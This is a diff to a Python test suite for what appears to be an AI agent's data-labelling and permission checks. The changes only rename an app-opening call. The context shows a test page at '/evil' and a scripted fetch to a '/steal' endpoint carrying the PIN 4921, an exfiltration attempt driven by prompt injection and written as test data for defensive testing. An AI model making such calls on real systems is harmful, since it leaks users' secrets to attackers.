@@ -321,7 +321,7 @@ def test_windows_show_whose_their_entries_are(tmp_path: Path) -> None:
         async def work(scene: Scene) -> None:
             await scene.say(f"Read {site.url}/evil", *keep_everything(scene, site.url))
             await scene.engine.chat.open_new()
-            await scene.engine.tools.apps.open("notes")
+            await scene.engine.tools.apps.host.open("notes")
             await scene.say(
                 "Hello",
                 [scripted_call("web.fetch", {"url": f"{site.url}/steal?q=4921"})],
@@ -470,7 +470,7 @@ def test_an_action_in_a_window_asks_as_its_tool_does(tmp_path: Path) -> None:
     with web_site({"/evil": "Plan this."}) as site:
 
         async def work(scene: Scene) -> None:
-            await scene.engine.tools.apps.open("calendar")
+            await scene.engine.tools.apps.host.open("calendar")
             await scene.say(
                 f"Read {site.url}/evil",
                 [scripted_call("web.fetch", {"url": f"{site.url}/evil"})],
@@ -489,7 +489,7 @@ def test_a_window_action_brings_the_labels_of_what_it_shows(tmp_path: Path) -> N
     async def work(scene: Scene) -> None:
         page = DataSource(Material.PAGE)
         await scene.engine.notebook.notes.add("The PIN is 4921", [], (page,))
-        await scene.engine.tools.apps.open("notes")
+        await scene.engine.tools.apps.host.open("notes")
         reply = await scene.say("Where is the PIN?", [scripted_call("window.act", acted)], DONE)
         (result,) = scene.results(reply)
         assert result.labels == Labels((page,), (DataSource(Material.NOTE),))
